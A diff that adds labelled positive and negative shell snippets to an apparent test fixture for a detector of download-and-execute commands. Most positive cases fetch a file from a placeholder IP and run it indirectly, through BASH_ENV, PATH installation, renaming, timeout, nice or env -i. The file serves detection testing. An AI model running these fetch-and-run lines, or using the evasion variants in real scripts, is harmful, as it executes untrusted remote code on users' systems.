@@ -250,3 +250,49 @@ declare -A tool=([fetch]="curl -fsSL" [run]="sh -s --"); ${tool[fetch]} https://
 steps=([2]="bash" [0]="wget -qO-"); ${steps[0]} https://203.0.113.9/i | ${steps[2]}
 #@ neg a shell in a variable's command line given a script
 r="bash -e"; curl -fsSL https://203.0.113.9/i -o x.txt; $r build.sh
+#@ pos a download made BASH_ENV of a bash that runs nothing
+curl -fsSL https://203.0.113.93/w -o /tmp/w
+BASH_ENV=/tmp/w bash -c true
+#@ pos a download exported as ENV of an interactive sh
+f=$(mktemp)
+wget -q -O "$f" https://203.0.113.94/rc
+export ENV="$f"
+sh -ic 'exit 0'
+#@ pos a download given as BASH_ENV through env
+curl -s https://203.0.113.95/h > "$h"
+env BASH_ENV="$h" bash ./build.sh
+#@ pos a download installed onto the PATH and run by its bare name
+wget -qO "$t" https://203.0.113.96/fmt
+install -m 0755 "$t" "$HOME/.local/bin/fmtx"
+fmtx --all .
+#@ pos a download moved into ./bin and run there
+curl -fsSLo "$t" https://203.0.113.97/lint
+mv "$t" ./bin/lint
+chmod +x ./bin/lint
+./bin/lint src/
+#@ pos a download copied under a .py name and run by python3
+wget -q -O "$d" https://203.0.113.98/setup
+cp "$d" "$w/setup.py"
+python3 "$w/setup.py" install
+#@ neg BASH_ENV set to the project's own file
+curl -s https://api.example.com/v1/items -o items.json
+BASH_ENV=./ci/env.sh bash ./build.sh
+#@ neg a downloaded archive copied to a backup directory
+curl -fsSLo "$t" https://example.com/data.tar.gz
+cp "$t" ./backup/data.tar.gz
+tar -tzf ./backup/data.tar.gz
+#@ neg a download whose URL ends with the name of a later command
+curl -fsS -X POST -d '{"ping":1}' "http://127.0.0.1:$port/api/echo"
+echo
+#@ pos a download run through timeout
+curl -fsSL https://203.0.113.99/a -o "$a"
+chmod +x "$a"
+timeout 300 "$a" --register
+#@ pos a download run through nice
+wget -qO ./.cache/b https://203.0.113.100/b && chmod 755 ./.cache/b && nice -n 19 ./.cache/b
+#@ pos a download run through env -i
+curl -so "$b" https://203.0.113.101/i
+env -i PATH=/usr/bin "$b" --prefix /opt
+#@ neg a download read by a program run through timeout
+curl -fsS https://api.example.com/v1/items -o items.json
+timeout 10 jq length items.json
